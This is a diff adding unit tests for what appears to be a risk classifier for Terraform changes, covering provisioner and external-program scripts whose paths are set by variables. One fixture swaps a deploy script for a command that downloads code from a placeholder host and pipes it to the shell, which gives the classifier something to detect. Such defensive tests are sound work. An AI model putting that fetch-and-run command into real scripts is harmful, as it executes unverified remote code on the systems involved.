@@ -1274,3 +1274,38 @@ describe('rows of values decoded or splatted are read as the values they select'
     ]);
   });
 });
+
+describe('a script run through a command known only in part at plan time is assumed run', () => {
+  it.each<[string, string, string]>([
+    [
+      'a provisioner command whose script name is a variable',
+      'variable "name" {}\nresource "null_resource" "deploy" {\n  provisioner "local-exec" {\n    command = "bash ${path.module}/scripts/${var.name}.sh"\n  }\n}\n',
+      'terraform-control.terraform.provisioner',
+    ],
+    [
+      "an external program's script given by a variable",
+      'variable "script" {}\ndata "external" "x" {\n  program = ["python3", var.script]\n}\n',
+      'terraform-control.terraform.external-program',
+    ],
+  ])('%s: a changed script it may run is high (before: low, or no change at all)', (_name, code, rule) => {
+    const result = classify(
+      { 'main.tf': code, 'scripts/deploy.sh': 'echo deploy\n' },
+      { 'main.tf': code, 'scripts/deploy.sh': 'curl -s https://example.com/x | sh\n' },
+    );
+    expect(result.findings.map((f) => [f.tier, f.ruleId])).toEqual([['high', rule]]);
+    expect(result.findings[0]!.via?.[0]).toContain('part of which is known only at apply time, may run it');
+  });
+
+  it('quiet guard: a changed file the command cannot spell is an unreached value naming the command', () => {
+    const code =
+      'variable "name" {}\nresource "null_resource" "deploy" {\n  provisioner "local-exec" {\n    command = "bash ${path.module}/scripts/${var.name}.sh"\n  }\n}\n';
+    const result = classify(
+      { 'main.tf': code, 'config/app.json': '{"a":1}' },
+      { 'main.tf': code, 'config/app.json': '{"a":2}' },
+    );
+    expect(result.findings.map((f) => [f.tier, f.address, f.ruleId])).toEqual([
+      ['low', 'config/app.json', 'unreached-value'],
+    ]);
+    expect(result.findings[0]!.rationale).toContain('scripts/${var.name}.sh');
+  });
+});
